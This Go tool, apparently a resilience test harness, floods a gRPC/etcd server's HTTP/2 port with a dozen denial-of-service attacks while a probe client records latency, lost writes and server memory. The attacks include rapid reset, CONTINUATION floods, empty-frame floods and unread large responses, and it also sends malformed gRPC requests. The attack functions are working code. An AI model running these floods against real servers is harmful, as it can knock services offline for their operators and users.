// h2abuse attacks a gRPC server's HTTP/2 port as a hostile client would, one raw connection
// per attack, while a well-behaved client (grpc-go, as etcd's clientv3 uses it) puts and reads
// a key every 50 ms beside it. It prints one JSON line: what the attacker sent, how the server
// ended its connection (the GOAWAY's code and text), how the probe fared, and the server's
// resident memory (from /proc/PID/status, with -pid) before, at its peak, and after the
// attacker left. The same attacks run against kvd and etcd, so both can be compared.
//
//	go run ./cmd/h2abuse -endpoint 127.0.0.1:2379 -pid 1234 -attack streams -duration 6s
//
// Attacks (-attack):
//
//	streams            open streams whose request body never ends (3 bytes of a message each),
//	                   headers as literals without indexing
//	range-noread       Range calls for a 1 MiB value, as fast as the socket takes them, never
//	                   reading an answer
//	tiny-window        a 1-byte initial window; 300 Range calls for the 1 MiB value; frames are
//	                   read, no window is ever given
//	empty-data         one stream, then empty DATA frames without END_STREAM
//	empty-continuation a HEADERS without END_HEADERS, then empty CONTINUATION frames
//	empty-fields       streams of 1,200 empty header fields each
//	rapid-reset        HEADERS then RST_STREAM, stream after stream
//	reset-paired       each reset paired with a completed call
//	reset-reconnect    900 resets a connection, then a new connection
//	ping               PING frames
//	settings           SETTINGS frames
//	header-list        one header list of 16 MiB in CONTINUATION frames
//
// Requests that show how malformed gRPC is answered (-attack, printed as the answer's fields):
// content-type (a Range call with content-type text/plain), no-content-type, grpc-web,
// short-body (a message prefix that announces more bytes than follow), long-body (a message
// and the start of another), two-messages, empty-body, unknown-method, unknown-service,
// malformed-path.
package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
)

// Result is what one run prints.
type Result struct {
	Attack string `json:"attack"`
	// Frames and streams the attacker sent, and its connections.
	Frames      int64 `json:"frames"`
	Streams     int64 `json:"streams"`
	Connections int64 `json:"connections"`
	// How the server ended the attacker's (last) connection: a GOAWAY's code and debug text,
	// or "closed" when it closed without one, or "" when it did not.
	Goaway       string `json:"goaway"`
	GoawayDebug  string `json:"goaway_debug"`
	GoawayCount  int64  `json:"goaways"`
	ClosedByPeer bool   `json:"closed"`
	// The probe's calls during the attack.
	ProbeOK     int     `json:"probe_ok"`
	ProbeFailed int     `json:"probe_failed"`
	ProbeMaxMs  float64 `json:"probe_max_ms"`
	ProbeError  string  `json:"probe_error,omitempty"`
	// Every put the probe saw acknowledged was read back after the attack.
	ProbeLost int `json:"probe_lost"`
	// The server's resident memory, MiB.
	RSSBefore float64 `json:"rss_before_mib"`
	RSSPeak   float64 `json:"rss_peak_mib"`
	RSSAfter  float64 `json:"rss_after_mib"`
	// For the malformed requests: the answer's header fields, in order.
	Answer []string `json:"answer,omitempty"`
}

var (
	endpoint = flag.String("endpoint", "127.0.0.1:2379", "the server's client port (host:port)")
	pid      = flag.Int("pid", 0, "the server's process id, to sample its resident memory")
	attack   = flag.String("attack", "streams", "the attack (see the package comment)")
	duration = flag.Duration("duration", 6*time.Second, "how long the attack lasts")
	settle   = flag.Duration("settle", 5*time.Second, "how long after the attack the memory is sampled")
)

func main() {
	flag.Parse()
	res := Result{Attack: *attack}
	if probe, ok := malformed[*attack]; ok {
		answer, err := probe()
		if err != nil {
			log.Fatal(err)
		}
		res.Answer = answer
		out, _ := json.Marshal(res)
		fmt.Println(string(out))
		return
	}
	run, ok := attacks[*attack]
	if !ok {
		log.Fatalf("unknown attack %q", *attack)
	}
	conn, err := grpc.NewClient(*endpoint, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		log.Fatal(err)
	}
	kv := pb.NewKVClient(conn)
	ctx := context.Background()
	// The 1 MiB value the Range attacks read, and a probe call so the probe is connected.
	if _, err := kv.Put(ctx, &pb.PutRequest{Key: []byte("h2abuse/big"), Value: bytes.Repeat([]byte{'v'}, 1<<20)}); err != nil {
		log.Fatal(err)
	}
	res.RSSBefore = rss()
	stop := make(chan struct{})
	var peak atomic.Uint64
	peak.Store(uint64(res.RSSBefore * 1024))
	var sampler sync.WaitGroup
	sampler.Add(1)
	go func() {
		defer sampler.Done()
		t := time.NewTicker(20 * time.Millisecond)
		defer t.Stop()
		for {
			select {
			case <-stop:
				return
			case <-t.C:
				if r := uint64(rss() * 1024); r > peak.Load() {
					peak.Store(r)
				}
			}
		}
	}()
	probed := make(chan probeResult)
	go func() { probed <- runProbe(kv, stop) }()

	a := &attacker{res: &res, deadline: time.Now().Add(*duration)}
	run(a)
	// The probe goes on for the whole duration, however soon the attacker was sent away.
	time.Sleep(time.Until(a.deadline))
	close(stop)
	p := <-probed
	sampler.Wait()
	res.ProbeOK, res.ProbeFailed, res.ProbeMaxMs, res.ProbeError = p.ok, p.failed, p.maxMs, p.err
	// Nothing acknowledged is lost.
	for _, k := range p.acked {
		r, err := kv.Range(ctx, &pb.RangeRequest{Key: []byte(k)})
		if err != nil || len(r.Kvs) != 1 || string(r.Kvs[0].Value) != k {
			res.ProbeLost++
		}
	}
	res.RSSPeak = float64(peak.Load()) / 1024
	time.Sleep(*settle)
	res.RSSAfter = rss()
	out, _ := json.Marshal(res)
	fmt.Println(string(out))
}

// rss is the server's resident memory in MiB (0 without -pid).
func rss() float64 {
	if *pid == 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", *pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "VmRSS:" {
			kb, _ := strconv.ParseFloat(f[1], 64)
			return kb / 1024
		}
	}
	return 0
}

type probeResult struct {
	ok, failed int
	maxMs      float64
	err        string
	acked      []string
}

// runProbe puts a new key and reads it back every 50 ms until stop, each call with a 5 s
// deadline, on its own connection.
func runProbe(kv pb.KVClient, stop chan struct{}) probeResult {
	var p probeResult
	for i := 0; ; i++ {
		select {
		case <-stop:
			return p
		case <-time.After(50 * time.Millisecond):
		}
		key := fmt.Sprintf("h2abuse/probe/%d/%d", time.Now().UnixNano(), i)
		for _, put := range []bool{true, false} {
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			start := time.Now()
			var err error
			if put {
				_, err = kv.Put(ctx, &pb.PutRequest{Key: []byte(key), Value: []byte(key)})
			} else {
				var r *pb.RangeResponse
				r, err = kv.Range(ctx, &pb.RangeRequest{Key: []byte(key)})
				if err == nil && len(r.Kvs) != 1 {
					err = fmt.Errorf("read %d keys", len(r.Kvs))
				}
			}
			cancel()
			ms := float64(time.Since(start).Microseconds()) / 1000
			if ms > p.maxMs {
				p.maxMs = ms
			}
			if err != nil {
				p.failed++
				p.err = err.Error()
				continue
			}
			p.ok++
			if put {
				p.acked = append(p.acked, key)
			}
		}
	}
}

// attacker holds one raw connection at a time.
type attacker struct {
	res      *Result
	deadline time.Time
	conn     net.Conn
	fr       *http2.Framer
	enc      *hpack.Encoder
	hbuf     bytes.Buffer
	nextID   uint32
	// Set by the reader when the server ends the connection.
	ended atomic.Bool
	mu    sync.Mutex
}

func (a *attacker) over() bool { return time.Now().After(a.deadline) || a.ended.Load() }

// dial opens a new connection: the preface and SETTINGS (with `window` as the initial stream
// window when non-zero), and a reader that discards frames, noting a GOAWAY, unless
// `read` is false (the server's answers then pile up in its buffers).
func (a *attacker) dial(read bool, window uint32) {
	c, err := net.Dial("tcp", *endpoint)
	if err != nil {
		log.Fatal(err)
	}
	a.conn = c
	a.res.Connections++
	a.ended.Store(false)
	a.fr = http2.NewFramer(c, c)
	a.fr.MaxHeaderListSize = 1 << 30
	a.fr.ReadMetaHeaders = nil
	a.hbuf.Reset()
	a.enc = hpack.NewEncoder(&a.hbuf)
	// Literals without indexing: the encoder's table holds nothing.
	a.enc.SetMaxDynamicTableSizeLimit(0)
	a.nextID = 1
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		log.Fatal(err)
	}
	var s []http2.Setting
	if window != 0 {
		s = append(s, http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	}
	a.check(a.fr.WriteSettings(s...))
	if read {
		go a.read(a.fr, nil)
	}
}

// read discards the server's frames, noting a GOAWAY or the connection's end; `answered`
// (if not nil) is told of each stream the server ends.
func (a *attacker) read(fr *http2.Framer, answered chan<- struct{}) {
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			if !a.ended.Load() {
				a.mu.Lock()
				if a.res.Goaway == "" {
					a.res.Goaway = "closed"
				}
				a.res.ClosedByPeer = true
				a.mu.Unlock()
			}
			a.ended.Store(true)
			return
		}
		if g, ok := f.(*http2.GoAwayFrame); ok {
			a.mu.Lock()
			a.res.Goaway = g.ErrCode.String()
			a.res.GoawayDebug = string(g.DebugData())
			a.res.GoawayCount++
			a.mu.Unlock()
			if g.ErrCode != http2.ErrCodeNo {
				a.ended.Store(true)
			}
		}
		if h, ok := f.(*http2.HeadersFrame); ok && h.StreamEnded() && answered != nil {
			answered <- struct{}{}
		}
	}
}

// check notes a failed write: the server closed the connection (or stopped reading until the
// deadline, which the write deadline turns into an error).
func (a *attacker) check(err error) bool {
	if err == nil {
		a.res.Frames++
		return true
	}
	a.ended.Store(true)
	return false
}

// block encodes header fields.
func (a *attacker) block(fields ...string) []byte {
	a.hbuf.Reset()
	for i := 0; i+1 < len(fields); i += 2 {
		_ = a.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return append([]byte(nil), a.hbuf.Bytes()...)
}

func grpcHeaders(path string) []string {
	return []string{":method", "POST", ":scheme", "http", ":path", path, ":authority", *endpoint,
		"content-type", "application/grpc", "te", "trailers"}
}

// message is a gRPC message (prefix and payload).
func message(m []byte) []byte {
	out := make([]byte, 5, 5+len(m))
	binary.BigEndian.PutUint32(out[1:], uint32(len(m)))
	return append(out, m...)
}

func rangeOf(key string) []byte {
	m, err := (&pb.RangeRequest{Key: []byte(key)}).Marshal()
	if err != nil {
		log.Fatal(err)
	}
	return message(m)
}

// call sends one whole unary call on a new stream; its id.
func (a *attacker) call(path string, msg []byte) uint32 {
	id := a.stream()
	a.check(a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block(grpcHeaders(path)...), EndHeaders: true}))
	a.check(a.fr.WriteData(id, true, msg))
	return id
}

func (a *attacker) stream() uint32 {
	id := a.nextID
	a.nextID += 2
	a.res.Streams++
	return id
}

func (a *attacker) writeDeadline() {
	_ = a.conn.SetWriteDeadline(a.deadline)
}

var attacks = map[string]func(a *attacker){
	"streams": func(a *attacker) {
		a.dial(true, 0)
		a.writeDeadline()
		for !a.over() {
			id := a.stream()
			// A field that differs from stream to stream, as a request id would.
			fields := append(grpcHeaders("/etcdserverpb.KV/Range"), "x-request-id", strconv.Itoa(int(id)))
			if !a.check(a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block(fields...), EndHeaders: true})) {
				break
			}
			a.check(a.fr.WriteData(id, false, []byte{0, 0, 0}))
		}
	},
	"range-noread": func(a *attacker) {
		a.dial(false, 0)
		a.writeDeadline()
		msg := rangeOf("h2abuse/big")
		for !a.over() {
			a.call("/etcdserverpb.KV/Range", msg)
		}
	},
	"tiny-window": func(a *attacker) {
		a.dial(true, 1)
		a.writeDeadline()
		msg := rangeOf("h2abuse/big")
		for i := 0; i < 300 && !a.over(); i++ {
			a.call("/etcdserverpb.KV/Range", msg)
		}
		for !a.over() {
			time.Sleep(10 * time.Millisecond)
		}
	},
	"empty-data": func(a *attacker) {
		a.dial(true, 0)
		a.writeDeadline()
		id := a.stream()
		a.check(a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block(grpcHeaders("/etcdserverpb.KV/Range")...), EndHeaders: true}))
		for !a.over() {
			a.check(a.fr.WriteData(id, false, nil))
		}
	},
	"empty-continuation": func(a *attacker) {
		a.dial(true, 0)
		a.writeDeadline()
		id := a.stream()
		a.check(a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block(grpcHeaders("/etcdserverpb.KV/Range")...), EndHeaders: false}))
		for !a.over() {
			a.check(a.fr.WriteContinuation(id, false, nil))
		}
	},
	"empty-fields": func(a *attacker) {
		a.dial(true, 0)
		a.writeDeadline()
		fields := grpcHeaders("/etcdserverpb.KV/Range")
		for i := 0; i < 1200; i++ {
			fields = append(fields, "", "")
		}
		for !a.over() {
			id := a.stream()
			a.check(a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block(fields...), EndHeaders: true, EndStream: true}))
		}
	},
	"rapid-reset": func(a *attacker) {
		a.dial(true, 0)
		a.writeDeadline()
		msg := rangeOf("h2abuse/small")
		for !a.over() {
			id := a.call("/etcdserverpb.KV/Range", msg)
			a.check(a.fr.WriteRSTStream(id, http2.ErrCodeCancel))
		}
	},
	"reset-paired": func(a *attacker) {
		// Each reset goes with a call that completes: the answers are read (and counted).
		a.dial(false, 0)
		a.writeDeadline()
		answered := make(chan struct{}, 1<<16)
		go a.read(a.fr, answered)
		msg := rangeOf("h2abuse/small")
		for !a.over() {
			a.call("/etcdserverpb.KV/Range", msg)
			select {
			case <-answered:
			case <-time.After(time.Until(a.deadline)):
			}
			id := a.call("/etcdserverpb.KV/Range", msg)
			a.check(a.fr.WriteRSTStream(id, http2.ErrCodeCancel))
		}
	},
	"reset-reconnect": func(a *attacker) {
		msg := rangeOf("h2abuse/small")
		for !a.over() {
			a.dial(true, 0)
			a.writeDeadline()
			for i := 0; i < 900 && !a.ended.Load(); i++ {
				id := a.call("/etcdserverpb.KV/Range", msg)
				a.check(a.fr.WriteRSTStream(id, http2.ErrCodeCancel))
			}
			if time.Now().After(a.deadline) {
				break
			}
			_ = a.conn.Close()
			a.ended.Store(false)
		}
	},
	"ping": func(a *attacker) {
		a.dial(true, 0)
		a.writeDeadline()
		for !a.over() {
			a.check(a.fr.WritePing(false, [8]byte{1}))
		}
	},
	"settings": func(a *attacker) {
		a.dial(true, 0)
		a.writeDeadline()
		for !a.over() {
			a.check(a.fr.WriteSettings())
		}
	},
	"header-list": func(a *attacker) {
		a.dial(true, 0)
		a.writeDeadline()
		id := a.stream()
		big := a.block(append(grpcHeaders("/etcdserverpb.KV/Range"), "x-big", strings.Repeat("a", 16<<10))...)
		a.check(a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: big[:1], EndHeaders: false}))
		rest := big[1:]
		for i := 0; i < 1024 && !a.over(); i++ {
			a.check(a.fr.WriteContinuation(id, false, rest))
		}
		for !a.over() {
			time.Sleep(10 * time.Millisecond)
		}
	},
}

// The malformed requests: each sends one stream and returns the answer's fields.
var malformed = map[string]func() ([]string, error){
	"content-type": func() ([]string, error) {
		h := grpcHeaders("/etcdserverpb.KV/Range")
		h[9] = "text/plain"
		return exchange(h, rangeOf("k"))
	},
	"short-body": func() ([]string, error) {
		m := rangeOf("k")
		binary.BigEndian.PutUint32(m[1:], uint32(len(m)+10))
		return exchange(grpcHeaders("/etcdserverpb.KV/Range"), m)
	},
	"long-body": func() ([]string, error) {
		// One whole message, then the prefix of a second that never comes whole.
		return exchange(grpcHeaders("/etcdserverpb.KV/Range"), append(rangeOf("k"), 0, 0, 0))
	},
	"two-messages": func() ([]string, error) {
		return exchange(grpcHeaders("/etcdserverpb.KV/Range"), append(rangeOf("k"), rangeOf("k")...))
	},
	"no-content-type": func() ([]string, error) {
		return exchange(grpcHeaders("/etcdserverpb.KV/Range")[:8], rangeOf("k"))
	},
	"grpc-web": func() ([]string, error) {
		h := grpcHeaders("/etcdserverpb.KV/Range")
		h[9] = "application/grpc-web"
		return exchange(h, rangeOf("k"))
	},
	"malformed-path": func() ([]string, error) {
		return exchange(grpcHeaders("/etcdserverpb.KV.Range"), rangeOf("k"))
	},
	"empty-body": func() ([]string, error) {
		return exchange(grpcHeaders("/etcdserverpb.KV/Range"), nil)
	},
	"unknown-method": func() ([]string, error) {
		return exchange(grpcHeaders("/etcdserverpb.KV/Nosuch"), rangeOf("k"))
	},
	"unknown-service": func() ([]string, error) {
		return exchange(grpcHeaders("/etcdserverpb.Nosuch/Range"), rangeOf("k"))
	},
}

// exchange sends one request and returns the answer: its header fields (and trailers),
// "DATA n" for its data frames, "RST_STREAM code" if reset.
func exchange(fields []string, body []byte) ([]string, error) {
	a := &attacker{res: &Result{}, deadline: time.Now().Add(5 * time.Second)}
	a.dial(false, 0)
	defer a.conn.Close()
	_ = a.conn.SetDeadline(a.deadline)
	id := a.stream()
	a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block(fields...), EndHeaders: true})
	a.fr.WriteData(id, true, body)
	dec := hpack.NewDecoder(4096, nil)
	var out []string
	for {
		f, err := a.fr.ReadFrame()
		if err == io.EOF {
			return out, nil
		}
		if err != nil {
			return out, err
		}
		if f.Header().StreamID != id {
			continue
		}
		switch f := f.(type) {
		case *http2.HeadersFrame:
			hs, err := dec.DecodeFull(f.HeaderBlockFragment())
			if err != nil {
				return out, err
			}
			for _, h := range hs {
				out = append(out, h.Name+": "+h.Value)
			}
			if f.StreamEnded() {
				return out, nil
			}
		case *http2.DataFrame:
			out = append(out, fmt.Sprintf("DATA %d", len(f.Data())))
			if f.StreamEnded() {
				return out, nil
			}
		case *http2.RSTStreamFrame:
			return append(out, "RST_STREAM "+f.ErrCode.String()), nil
		}
	}
}
